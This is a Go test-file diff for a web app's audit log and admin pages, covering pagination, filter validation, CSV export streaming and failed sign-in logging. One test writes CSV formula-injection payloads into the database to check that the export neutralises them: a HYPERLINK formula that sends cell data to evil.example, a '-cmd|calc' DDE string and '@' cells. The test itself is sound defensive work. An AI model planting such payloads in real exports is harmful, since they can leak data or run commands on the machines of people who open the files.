@@ -18,16 +18,17 @@ import (
 	"github.com/PuerkitoBio/goquery"
 
 	"github.com/kvportal/kvportal/domain"
+	"github.com/kvportal/kvportal/internal/webtest"
 	"github.com/kvportal/kvportal/store"
 )
 
 // seedEvents adds n events in one statement: requests of u (one in ten in
 // cn-shanghai, request 7 with the InstanceId r-needle), each with a
 // submitted event three days old, then n - requests approvals by appr today.
-func (e *env) seedEvents(u, appr store.User, requests, n int) {
-	e.t.Helper()
+func seedEvents(e *webtest.Env, u, appr store.User, requests, n int) {
+	e.T.Helper()
 	ctx := context.Background()
-	if _, err := e.st.Pool().Exec(ctx, `
+	if _, err := e.St.Pool().Exec(ctx, `
 		WITH r AS (
 			INSERT INTO requests (requester_id, token, instance_class, region_id, charge_type, network_type,
 				instance_type, engine_version, instance_id)
@@ -38,33 +39,33 @@ func (e *env) seedEvents(u, appr store.User, requests, n int) {
 		INSERT INTO audit_events (actor_id, action, request_id, at, details)
 		SELECT $1, 'request.submitted', id, now() - interval '3 days', '{"InstanceClass": "redis.master.small.default"}' FROM r`,
 		u.ID, requests); err != nil {
-		e.t.Fatal(err)
+		e.T.Fatal(err)
 	}
-	if _, err := e.st.Pool().Exec(ctx, `
+	if _, err := e.St.Pool().Exec(ctx, `
 		INSERT INTO audit_events (actor_id, action, request_id, details)
 		SELECT $1, 'request.approved', (SELECT min(id) FROM requests) + g % $2::int, '{"note": "seeded"}'
 		FROM generate_series(1, $3::int) g`, appr.ID, requests, n-requests); err != nil {
-		e.t.Fatal(err)
+		e.T.Fatal(err)
 	}
 }
 
 // walk follows the Older links of a list from path, returning the ids of
 // every row (attribute attr) and the number of pages.
-func (c *client) walk(path, rowSel, attr string) (ids []string, pages int) {
-	c.t.Helper()
+func walk(t *testing.T, c *webtest.Client, path, rowSel, attr string) (ids []string, pages int) {
+	t.Helper()
 	for path != "" {
-		r := c.get(path)
-		if r.status != http.StatusOK {
-			c.t.Fatalf("GET %s: %d", path, r.status)
+		r := c.Get(path)
+		if r.Status != http.StatusOK {
+			t.Fatalf("GET %s: %d", path, r.Status)
 		}
 		pages++
-		r.doc.Find(rowSel).Each(func(_ int, s *goquery.Selection) {
+		r.Doc.Find(rowSel).Each(func(_ int, s *goquery.Selection) {
 			v, _ := s.Attr(attr)
 			ids = append(ids, v)
 		})
-		path, _ = r.doc.Find(`.pagination a[rel="next"]`).Attr("href")
+		path, _ = r.Doc.Find(`.pagination a[rel="next"]`).Attr("href")
 		if path != "" && (!strings.Contains(path, "before=") || strings.Contains(path, "offset")) {
-			c.t.Fatalf("next page %q is not a keyset link", path)
+			t.Fatalf("next page %q is not a keyset link", path)
 		}
 	}
 	return ids, pages
@@ -72,14 +73,14 @@ func (c *client) walk(path, rowSel, attr string) (ids []string, pages int) {
 
 func TestAuditFiltersAndPages(t *testing.T) {
 	t.Parallel()
-	e := newEnv(t)
-	adm, admUser := e.signedIn("adm", domain.RoleAdmin)
-	dev := e.user("dev", domain.RoleRequester)
-	appr := e.user("appr", domain.RoleApprover)
-	e.seedEvents(dev, appr, 1000, 3000)
+	e := webtest.New(t)
+	adm, admUser := e.SignedIn("adm", domain.RoleAdmin)
+	dev := e.User("dev", domain.RoleRequester)
+	appr := e.User("appr", domain.RoleApprover)
+	seedEvents(e, dev, appr, 1000, 3000)
 
 	// Every page of approvals, newest first, no repeats, 50 a page.
-	ids, pages := adm.walk("/audit?action=request.approved", "tr[data-event-id]", "data-event-id")
+	ids, pages := walk(t, adm, "/audit?action=request.approved", "tr[data-event-id]", "data-event-id")
 	if len(ids) != 2000 || pages != 40 {
 		t.Fatalf("approvals: %d events on %d pages", len(ids), pages)
 	}
@@ -93,13 +94,13 @@ func TestAuditFiltersAndPages(t *testing.T) {
 
 	count := func(query string) int {
 		t.Helper()
-		r := adm.get("/audit?" + query)
-		if r.status != http.StatusOK {
-			t.Fatalf("/audit?%s: %d", query, r.status)
+		r := adm.Get("/audit?" + query)
+		if r.Status != http.StatusOK {
+			t.Fatalf("/audit?%s: %d", query, r.Status)
 		}
-		n := r.doc.Find("tr[data-event-id]").Length()
+		n := r.Doc.Find("tr[data-event-id]").Length()
 		if n == 50 { // more than a page: count through the store instead
-			ids, _ := adm.walk("/audit?"+query, "tr[data-event-id]", "data-event-id")
+			ids, _ := walk(t, adm, "/audit?"+query, "tr[data-event-id]", "data-event-id")
 			n = len(ids)
 		}
 		return n
@@ -123,20 +124,20 @@ func TestAuditFiltersAndPages(t *testing.T) {
 		}
 	}
 	// A request's events link to it; the actor is named.
-	r := adm.get("/audit?instance=r-needle")
-	r.doc.Find("tr[data-event-id]").Each(func(_ int, s *goquery.Selection) {
+	r := adm.Get("/audit?instance=r-needle")
+	r.Doc.Find("tr[data-event-id]").Each(func(_ int, s *goquery.Selection) {
 		if href, _ := s.Find(`a[href^="/requests/"]`).Attr("href"); href == "" {
 			t.Error("an event without its request link")
 		}
 	})
-	if got := r.doc.Find(`tr[data-action="request.submitted"] [data-testid="actor"]`).Text(); got != "dev" {
+	if got := r.Doc.Find(`tr[data-action="request.submitted"] [data-testid="actor"]`).Text(); got != "dev" {
 		t.Errorf("submitted by %q", got)
 	}
-	if exp, _ := r.doc.Find(`[data-testid="export"]`).Attr("href"); exp != "/audit/export.csv?instance=r-needle" {
+	if exp, _ := r.Doc.Find(`[data-testid="export"]`).Attr("href"); exp != "/audit/export.csv?instance=r-needle" {
 		t.Errorf("export link %q", exp)
 	}
 	// The sign-in is readable.
-	if got := adm.get("/audit?action=auth.login").doc.Find("tr[data-event-id] td.what").Text(); !strings.Contains(got, "signed in") {
+	if got := adm.Get("/audit?action=auth.login").Doc.Find("tr[data-event-id] td.what").Text(); !strings.Contains(got, "signed in") {
 		t.Errorf("sign-in shown as %q", got)
 	}
 	_ = admUser
@@ -149,41 +150,41 @@ func TestAuditFiltersAndPages(t *testing.T) {
 		"instance=%ff%fe": "instance", "region=" + strings.Repeat("x", 200): "region", "instance=a%E2%80%AEb": "instance",
 	}
 	for q, field := range bad {
-		r := adm.get("/audit?" + q)
-		if r.status != http.StatusUnprocessableEntity || r.doc.Find("#err-"+field).Length() != 1 {
-			t.Errorf("/audit?%s: %d, error on %s: %d", q, r.status, field, r.doc.Find("#err-"+field).Length())
+		r := adm.Get("/audit?" + q)
+		if r.Status != http.StatusUnprocessableEntity || r.Doc.Find("#err-"+field).Length() != 1 {
+			t.Errorf("/audit?%s: %d, error on %s: %d", q, r.Status, field, r.Doc.Find("#err-"+field).Length())
 		}
-		if r := adm.get("/audit/export.csv?" + q); r.status != http.StatusUnprocessableEntity {
-			t.Errorf("/audit/export.csv?%s: %d", q, r.status)
+		if r := adm.Get("/audit/export.csv?" + q); r.Status != http.StatusUnprocessableEntity {
+			t.Errorf("/audit/export.csv?%s: %d", q, r.Status)
 		}
 	}
 	for _, q := range []string{"before=abc", "before=-5", "before=0", "action=", "before=99999999999999999999"} {
-		if r := adm.get("/audit?" + q); r.status != http.StatusOK {
-			t.Errorf("/audit?%s: %d", q, r.status)
+		if r := adm.Get("/audit?" + q); r.Status != http.StatusOK {
+			t.Errorf("/audit?%s: %d", q, r.Status)
 		}
 	}
 }
 
 func TestAdminRequestList(t *testing.T) {
 	t.Parallel()
-	e := newEnv(t)
-	adm, _ := e.signedIn("adm", domain.RoleAdmin)
-	dev := e.user("dev", domain.RoleRequester)
-	ops := e.user("ops", domain.RoleRequester)
-	appr := e.user("appr", domain.RoleApprover)
-	e.seedEvents(dev, appr, 120, 120)
-	mine := e.request(ops)
-	failed := e.failedRequest(ops, appr)
+	e := webtest.New(t)
+	adm, _ := e.SignedIn("adm", domain.RoleAdmin)
+	dev := e.User("dev", domain.RoleRequester)
+	ops := e.User("ops", domain.RoleRequester)
+	appr := e.User("appr", domain.RoleApprover)
+	seedEvents(e, dev, appr, 120, 120)
+	mine := e.Request(ops)
+	failed := e.FailedRequest(ops, appr)
 
-	ids, pages := adm.walk("/admin/requests", "tr[data-request-id]", "data-request-id")
+	ids, pages := walk(t, adm, "/admin/requests", "tr[data-request-id]", "data-request-id")
 	if len(ids) != 122 || pages != 3 { // 50 rows a page
 		t.Fatalf("all requests: %d on %d pages", len(ids), pages)
 	}
-	r := adm.get("/admin/requests?requester=ops")
-	if r.doc.Find("tr[data-request-id]").Length() != 2 || r.doc.Find(`th:contains("Requester")`).Length() != 1 {
-		t.Errorf("ops's requests: %d rows", r.doc.Find("tr[data-request-id]").Length())
+	r := adm.Get("/admin/requests?requester=ops")
+	if r.Doc.Find("tr[data-request-id]").Length() != 2 || r.Doc.Find(`th:contains("Requester")`).Length() != 1 {
+		t.Errorf("ops's requests: %d rows", r.Doc.Find("tr[data-request-id]").Length())
 	}
-	if href, _ := r.doc.Find(`tr[data-request-id="` + itoa(mine.ID) + `"] a`).First().Attr("href"); href != "/requests/"+itoa(mine.ID) {
+	if href, _ := r.Doc.Find(`tr[data-request-id="` + webtest.Itoa(mine.ID) + `"] a`).First().Attr("href"); href != "/requests/"+webtest.Itoa(mine.ID) {
 		t.Errorf("row links to %q", href)
 	}
 	today := time.Now().UTC().Format(time.DateOnly)
@@ -191,19 +192,19 @@ func TestAdminRequestList(t *testing.T) {
 		"status=failed": 1, "status=failed&requester=dev": 0, "instance=r-needle": 1, "region=cn-shanghai": 12,
 		"type=Memcache": 0, "type=Redis&requester=ops": 2, "from=" + today + "&to=" + today: 122, "to=2001-01-01": 0,
 	} {
-		if got := len(first(adm.walk("/admin/requests?"+q, "tr[data-request-id]", "data-request-id"))); got != want {
+		if got := len(first(walk(t, adm, "/admin/requests?"+q, "tr[data-request-id]", "data-request-id"))); got != want {
 			t.Errorf("/admin/requests?%s: %d, want %d", q, got, want)
 		}
 	}
-	if got, _ := adm.get("/admin/requests?status=failed").doc.Find(`tr[data-request-id] [data-status]`).Attr("data-status"); got != "failed" {
+	if got, _ := adm.Get("/admin/requests?status=failed").Doc.Find(`tr[data-request-id] [data-status]`).Attr("data-status"); got != "failed" {
 		t.Errorf("failed row shows %q", got)
 	}
 	_ = failed
 	for q, field := range map[string]string{"status=bogus": "status", "requester=A%20B": "requester", "type=Postgres": "type",
 		"from=31/12/2024": "from", "instance=%00": "instance"} {
-		r := adm.get("/admin/requests?" + q)
-		if r.status != http.StatusUnprocessableEntity || r.doc.Find("#err-"+field).Length() != 1 {
-			t.Errorf("/admin/requests?%s: %d", q, r.status)
+		r := adm.Get("/admin/requests?" + q)
+		if r.Status != http.StatusUnprocessableEntity || r.Doc.Find("#err-"+field).Length() != 1 {
+			t.Errorf("/admin/requests?%s: %d", q, r.Status)
 		}
 	}
 }
@@ -214,26 +215,26 @@ func first(ids []string, _ int) []string { return ids }
 // neutralised in every cell, nothing secret.
 func TestAuditExportCSV(t *testing.T) {
 	t.Parallel()
-	e := newEnv(t)
-	adm, _ := e.signedIn("adm", domain.RoleAdmin)
-	dev := e.user("dev", domain.RoleRequester)
+	e := webtest.New(t)
+	adm, _ := e.SignedIn("adm", domain.RoleAdmin)
+	dev := e.User("dev", domain.RoleRequester)
 	ctx := context.Background()
 	// Values no form lets through, written straight into the tables.
 	nasty := `=HYPERLINK("http://evil.example/?"&A1,"click, here")`
 	region := "+cn-\"hang\",\nzhou"
 	var reqID int64
-	if err := e.st.Pool().QueryRow(ctx, `INSERT INTO requests (requester_id, token, instance_class, region_id, charge_type,
+	if err := e.St.Pool().QueryRow(ctx, `INSERT INTO requests (requester_id, token, instance_class, region_id, charge_type,
 		network_type, instance_type, engine_version, instance_id) VALUES ($1, 'tok', 'c', $2, 'PostPaid', 'Classic', 'Redis', '2.8', $3)
 		RETURNING id`, dev.ID, region, nasty).Scan(&reqID); err != nil {
 		t.Fatal(err)
 	}
 	details := map[string]any{"name": "a,b \"c\"\nd", "formula": "@SUM(A1:A9)", "password": "hunter2-secret"}
 	b, _ := json.Marshal(details)
-	if _, err := e.st.Pool().Exec(ctx, `INSERT INTO audit_events (actor_id, action, request_id, details) VALUES
+	if _, err := e.St.Pool().Exec(ctx, `INSERT INTO audit_events (actor_id, action, request_id, details) VALUES
 		($1, '-cmd|calc', $2, $3), (NULL, '@action', NULL, '{}'), (NULL, E'\tTab', NULL, '{}')`, dev.ID, reqID, b); err != nil {
 		t.Fatal(err)
 	}
-	resp, err := adm.http.Get(e.srv.URL + "/audit/export.csv")
+	resp, err := adm.HTTP.Get(e.Srv.URL + "/audit/export.csv")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -255,8 +256,8 @@ func TestAuditExportCSV(t *testing.T) {
 	if strings.Join(rows[0], ",") != "id,at,actor,action,request_id,instance_id,region_id,details,team" {
 		t.Errorf("header %q", rows[0])
 	}
-	if len(rows) != 1+e.countAllEvents() {
-		t.Errorf("%d rows for %d events", len(rows)-1, e.countAllEvents())
+	if len(rows) != 1+e.CountAllEvents() {
+		t.Errorf("%d rows for %d events", len(rows)-1, e.CountAllEvents())
 	}
 	byAction := map[string][]string{}
 	for _, r := range rows[1:] {
@@ -277,7 +278,7 @@ func TestAuditExportCSV(t *testing.T) {
 	if got == nil {
 		t.Fatalf("no neutralised action among %v", rows)
 	}
-	want := []string{got[0], got[1], "dev", "'-cmd|calc", itoa(reqID), "'" + nasty, "'" + region, got[7]}
+	want := []string{got[0], got[1], "dev", "'-cmd|calc", webtest.Itoa(reqID), "'" + nasty, "'" + region, got[7]}
 	for i := range want {
 		if got[i] != want[i] {
 			t.Errorf("cell %d: %q, want %q", i, got[i], want[i])
@@ -294,7 +295,7 @@ func TestAuditExportCSV(t *testing.T) {
 		t.Error("tab cell not neutralised")
 	}
 	// The page shows the same events without the secret.
-	if page := adm.get("/audit"); strings.Contains(page.body, "hunter2") || !strings.Contains(page.body, "[redacted]") {
+	if page := adm.Get("/audit"); strings.Contains(page.Body, "hunter2") || !strings.Contains(page.Body, "[redacted]") {
 		t.Error("the audit page shows a secret")
 	}
 }
@@ -327,13 +328,13 @@ func (g *flushGate) Flush() {
 // flush), and every row arrives intact.
 func TestAuditExportStreams(t *testing.T) {
 	t.Parallel()
-	e := newEnv(t)
-	adm, _ := e.signedIn("adm", domain.RoleAdmin)
-	dev := e.user("dev", domain.RoleRequester)
-	appr := e.user("appr", domain.RoleApprover)
+	e := webtest.New(t)
+	adm, _ := e.SignedIn("adm", domain.RoleAdmin)
+	dev := e.User("dev", domain.RoleRequester)
+	appr := e.User("appr", domain.RoleApprover)
 	const total = 50000
-	e.seedEvents(dev, appr, 5000, total)
-	before := e.countAllEvents()
+	seedEvents(e, dev, appr, 5000, total)
+	before := e.CountAllEvents()
 
 	var gate *flushGate
 	var mu sync.Mutex
@@ -344,11 +345,11 @@ func TestAuditExportStreams(t *testing.T) {
 		gate = g
 		mu.Unlock()
 		defer close(done)
-		e.srv.Config.Handler.ServeHTTP(g, r)
+		e.Srv.Config.Handler.ServeHTTP(g, r)
 	}))
 	defer wrapped.Close()
 
-	resp, err := adm.http.Get(wrapped.URL + "/audit/export.csv")
+	resp, err := adm.HTTP.Get(wrapped.URL + "/audit/export.csv")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -395,16 +396,16 @@ func TestAuditExportStreams(t *testing.T) {
 // under the username tried, never under system.
 func TestFailedSignInInAudit(t *testing.T) {
 	t.Parallel()
-	e := newEnv(t)
-	adm, _ := e.signedIn("adm", domain.RoleAdmin)
-	e.user("dev", domain.RoleRequester)
-	c := e.client()
-	c.get("/login")
-	c.post("/login", url.Values{"username": {"dev"}, "password": {"not-the-password"}})
+	e := webtest.New(t)
+	adm, _ := e.SignedIn("adm", domain.RoleAdmin)
+	e.User("dev", domain.RoleRequester)
+	c := e.Client()
+	c.Get("/login")
+	c.Post("/login", url.Values{"username": {"dev"}, "password": {"not-the-password"}})
 	row := func(query string) (n int, actor string) {
 		t.Helper()
-		r := adm.get("/audit?" + query)
-		rows := r.doc.Find(`tr[data-action="` + domain.ActionLoginFailed + `"]`)
+		r := adm.Get("/audit?" + query)
+		rows := r.Doc.Find(`tr[data-action="` + domain.ActionLoginFailed + `"]`)
 		return rows.Length(), strings.TrimSpace(rows.First().Find(`[data-testid="actor"]`).Text())
 	}
 	if n, actor := row("actor=dev"); n != 1 || actor != "visitor" {
